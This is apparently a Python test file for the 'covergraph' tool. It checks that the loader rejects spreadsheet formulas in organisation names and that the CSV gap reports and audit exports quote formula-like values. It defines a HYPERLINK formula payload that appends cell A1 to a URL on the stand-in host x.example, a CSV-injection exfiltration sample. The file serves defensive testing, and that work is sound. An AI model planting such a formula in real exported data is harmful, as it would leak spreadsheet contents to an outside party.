"""No formula in, none out: `covergraph load` refuses one in a name, and a formula stored before
names were checked reaches the CSV reports and the audit export only as quoted text."""

from __future__ import annotations

import base64
import csv
import io
import subprocess
import sys
from pathlib import Path

from neo4j import Driver, ManagedTransaction

from api.auth import issue_token
from queries.gate import write_transaction
from services.edits import create_organisation
from services.exchange.exporter import read_graph
from services.exchange.formulas import restore
from services.exchange.importer import import_dataset
from services.exchange.writing import write_dataset
from tests.support.factory import small_dataset, table_rows
from tests.support.serving import Server

Graph = tuple[Driver, str]
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"点此")'
REPORT = """{ gapReport(format: "csv", asOf: "2026-11-01") { contentBase64 } }"""


def covergraph(*args: str) -> subprocess.CompletedProcess[str]:
    """Runs the command line against the test database."""
    command = [sys.executable, "-m", "api.cli", *args]
    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=300)


def test_load_refuses_a_formula_in_a_name_and_writes_nothing(graph: Graph, tmp_path: Path) -> None:
    driver, database = graph
    import_dataset(driver=driver, database=database, dataset=small_dataset())
    before = table_rows(read_graph(driver=driver, database=database))
    write_dataset(small_dataset(), tmp_path)
    organisations = tmp_path / "organisations.csv"
    text = organisations.read_text(encoding="utf-8-sig")
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    organisations.write_text(text.replace("红旗村党支部", quoted), encoding="utf-8-sig")
    reasons = {"zh": "会被电子表格当作公式", "en": "would run as a spreadsheet formula"}
    for lang, reason in reasons.items():
        result = covergraph("load", str(tmp_path), "--lang", lang)
        assert result.returncode == 1
        first = result.stderr.splitlines()[0]
        assert first.startswith("organisations.csv")
        assert HYPERLINK in first
        assert reason in first
    assert table_rows(read_graph(driver=driver, database=database)) == before


def _store_before_the_rule(graph: Graph, organisation: str, name: str) -> None:
    """Gives an organisation a name the importer now refuses, as data loaded earlier may hold."""
    cypher = "MATCH (o:Organisation {id: $id}) SET o.name = $name"
    driver, database = graph

    def rename(tx: ManagedTransaction) -> None:
        tx.run(cypher, id=organisation, name=name).consume()

    write_transaction(driver=driver, database=database, work=rename)


def _rows_about(data: str, subject: str) -> list[list[str]]:
    return [row for row in csv.reader(io.StringIO(data)) if row[2] == subject]


def test_gap_reports_in_csv_quote_a_stored_formula(
    graph: Graph,
    api_server: Server,
    tmp_path: Path,
) -> None:
    driver, database = graph
    import_dataset(driver=driver, database=database, dataset=small_dataset())
    _store_before_the_rule(graph, "B2", HYPERLINK)
    printed = covergraph("gaps", "--as-of", "2026-11-01", "--format", "csv")
    assert printed.returncode == 0, printed.stderr
    admin = issue_token(driver=driver, database=database, role="admin")[1]
    found = api_server.data(REPORT, admin)["gapReport"]["contentBase64"]
    downloaded = base64.b64decode(found).decode("utf-8-sig")
    for data in (printed.stdout, downloaded):
        rows = _rows_about(data, "B2")
        assert rows, data
        for row in rows:
            name, detail = row[3], row[7]
            assert name == "'" + HYPERLINK  # Excel and WPS show this as text
            assert detail.startswith("'" + HYPERLINK)  # the detail begins with the name
            assert restore(name) == HYPERLINK
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_audit_export_quotes_a_formula_like_id(graph: Graph, tmp_path: Path) -> None:
    driver, database = graph
    import_dataset(driver=driver, database=database, dataset=small_dataset())
    odd = "=1+2"  # ids are not names: any text is a valid id
    values = {"id": odd, "name": "新支部", "kind": "BRANCH", "parent_id": "S1"}
    create_organisation(driver=driver, database=database, values=values)
    table = tmp_path / "trail.csv"
    result = covergraph("audit", "export", str(table), "--target", odd)
    assert result.returncode == 0, result.stderr
    with table.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["target_id"] for row in rows] == ["'=1+2"]
    assert restore(rows[0]["target_id"]) == odd
    assert rows[0]["after"].startswith("{")
